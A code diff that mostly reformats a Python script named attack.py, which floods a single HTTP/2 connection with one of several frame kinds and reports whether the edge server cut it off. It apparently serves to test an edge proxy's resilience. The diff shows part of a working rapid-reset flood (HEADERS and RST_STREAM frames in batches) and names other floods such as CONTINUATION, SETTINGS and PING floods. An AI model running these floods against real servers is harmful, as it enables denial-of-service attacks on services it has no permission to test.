@@ -1,4 +1,7 @@
-"""Floods one connection of HTTP/2: `attack.py PORT KIND SECONDS`. Says how many frames it wrote, and whether the edge ended it."""
+"""Floods one connection of HTTP/2: `attack.py PORT KIND SECONDS`.
+
+Says how many frames it wrote, and whether the edge ended it.
+"""
 
 from __future__ import annotations
 
@@ -11,15 +14,29 @@ from collections.abc import Callable, Iterator
 from hpack import Encoder
 
 from fleet.frames import (
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, GET, HEADERS, PING, POST, PREFACE, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, raw,
-)  # fmt: skip
+    CONTINUATION,
+    DATA,
+    END_HEADERS,
+    END_STREAM,
+    GET,
+    HEADERS,
+    PING,
+    POST,
+    PREFACE,
+    PRIORITY,
+    RST_STREAM,
+    SETTINGS,
+    WINDOW_UPDATE,
+    Headers,
+    raw,
+)
 
 # How many frames are written at once.
 BATCH = 100
 Frames = Iterator[tuple[bytes, int]]
 
 
-def heads() -> Callable[[list[tuple[str, str]]], bytes]:
+def heads() -> Callable[[Headers], bytes]:
     """Encodes heads without the table, so that each is the same bytes."""
     encoder = Encoder()
     encoder.header_table_size = 0
@@ -33,7 +50,9 @@ def rapid_reset() -> Frames:
     while True:
         frames = b""
         for _ in range(BATCH // 2):
-            frames += raw(HEADERS, END_HEADERS | END_STREAM, stream, block) + raw(RST_STREAM, 0, stream, (8).to_bytes(4, "big"))
+            frames += raw(HEADERS, END_HEADERS | END_STREAM, stream, block) + raw(
+                RST_STREAM, 0, stream, (8).to_bytes(4, "big")
+            )
             stream += 2
         yield frames, BATCH
 
@@ -100,9 +119,17 @@ def window_updates() -> Frames:
 KINDS: dict[str, Callable[[], Frames]] = {
     function.__name__: function
     for function in (
-        rapid_reset, made_you_reset, continuations, empty_continuations, settings, pings, empty_data, priorities, window_updates,
+        rapid_reset,
+        made_you_reset,
+        continuations,
+        empty_continuations,
+        settings,
+        pings,
+        empty_data,
+        priorities,
+        window_updates,
     )
-}  # fmt: skip
+}
 
 
 def attack(port: int, kind: str, seconds: float) -> dict[str, object]:
